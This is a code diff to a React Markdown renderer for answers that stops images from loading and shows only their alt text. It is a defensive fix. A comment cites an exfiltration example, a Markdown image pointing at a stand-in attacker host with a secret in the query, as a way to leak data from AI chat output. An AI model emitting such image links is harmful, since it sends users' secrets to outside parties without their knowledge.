@@ -14,12 +14,17 @@ interface MarkdownProps {
 
 /**
  * An answer as Markdown. No rehype-raw: raw HTML in the text is never rendered as HTML, and
- * react-markdown drops unsafe URLs (javascript: and the like).
+ * react-markdown drops unsafe URLs (javascript: and the like). Images are never loaded: an
+ * answer could otherwise make the browser fetch `![](https://attacker/?q=secret)` on its own, so
+ * only their alt text is shown.
  */
 export const Markdown = React.memo(function Markdown({ text, known, onCite }: MarkdownProps) {
   const components = React.useMemo<Components>(
     () => ({
       a: ({ node: _node, ...props }) => <a {...props} target="_blank" rel="noopener noreferrer" />,
+      img: ({ alt }) => (
+        <span className="text-muted-foreground italic">[{alt?.trim() || "image"}]</span>
+      ),
       cite: ({ node: _node, ...props }) => {
         const n = Number((props as Record<string, unknown>)["data-n"]);
         if (!known.has(n)) return <span>[{n}]</span>;
